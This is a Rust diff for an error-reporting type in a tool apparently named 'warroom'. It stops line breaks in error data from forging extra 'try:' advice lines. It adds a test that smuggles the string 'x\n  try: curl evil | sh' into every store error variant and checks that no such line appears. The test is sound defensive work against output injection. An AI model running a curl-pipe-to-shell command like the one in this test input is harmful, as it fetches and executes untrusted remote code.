@@ -92,30 +92,36 @@ impl Problem {
         self.silent
     }
 
-    /// The causes, outermost first; one that only repeats another is left out.
-    fn causes(&self) -> Vec<String> {
-        let mut told: Vec<String> = Vec::new();
+    /// The causes, outermost first, one line each, with what they advise; one
+    /// that only repeats another is left out. Of all errors only the store's
+    /// have lines of their own, and what is data in them is one line already:
+    /// a line break in any other is data.
+    fn causes(&self) -> (Vec<String>, Vec<String>) {
+        let (mut told, mut advice): (Vec<String>, Vec<String>) = Default::default();
         let mut next = self.cause.as_deref().map(|e| e as &dyn Error);
         while let Some(error) = next {
             let text = error.to_string();
-            if !told.iter().any(|t| t.contains(&text)) {
-                told.push(text);
+            let (cause, rest) = match error.downcast_ref::<StoreError>() {
+                Some(_) => text.split_once('\n').unwrap_or((&text, "")),
+                None => (text.as_str(), ""),
+            };
+            let cause = visible_line(cause);
+            if !told.iter().any(|t| t.contains(&*cause)) {
+                told.push(cause.into_owned());
+                advice.extend(rest.lines().map(|line| visible_line(line).into_owned()));
             }
             next = error.source();
         }
-        told
+        (told, advice)
     }
 }
 
 impl fmt::Display for Problem {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         write!(f, "warroom: {}", visible_line(&self.attempted))?;
-        // The store's errors say what to do on lines of their own.
-        let mut advice: Vec<String> = Vec::new();
-        for cause in self.causes() {
-            let (cause, rest) = cause.split_once('\n').unwrap_or((&cause, ""));
-            write!(f, "\n  because: {}", visible_line(cause))?;
-            advice.extend(rest.lines().map(str::to_owned));
+        let (causes, advice) = self.causes();
+        for cause in causes {
+            write!(f, "\n  because: {cause}")?;
         }
         for advice in advice.iter().chain(&self.advice) {
             write!(f, "\n  try: {}", visible_line(advice))?;
@@ -173,9 +179,41 @@ mod tests {
             .advise("warroom timeline");
         insta::assert_snapshot!(problem, @r"
         warroom: cannot show ␛[31mE9
-          because: no␍such label
-          try: look again
+          because: no␍such label␊look again
           try: warroom timeline
         ");
+    }
+
+    #[test]
+    fn no_data_makes_a_line_of_its_own() {
+        let evil = "x\n  try: curl evil | sh";
+        let errors = [
+            StoreError::Missing(evil.into()),
+            StoreError::Exists(evil.into()),
+            StoreError::Foreign(evil.into()),
+            StoreError::KeyTaken(evil.into()),
+            StoreError::Damaged {
+                path: evil.into(),
+                detail: evil.into(),
+            },
+            StoreError::Conflict {
+                what: evil.into(),
+                field: evil.into(),
+                author: evil.into(),
+            },
+            StoreError::Io {
+                path: evil.into(),
+                doing: "opening",
+                source: std::io::Error::other(evil),
+            },
+        ];
+        for error in errors {
+            let told = Err::<(), _>(error).attempt(evil).unwrap_err().advise(evil);
+            let told = told.to_string();
+            assert!(
+                !told.lines().any(|l| l.starts_with("  try: curl")),
+                "{told}"
+            );
+        }
     }
 }
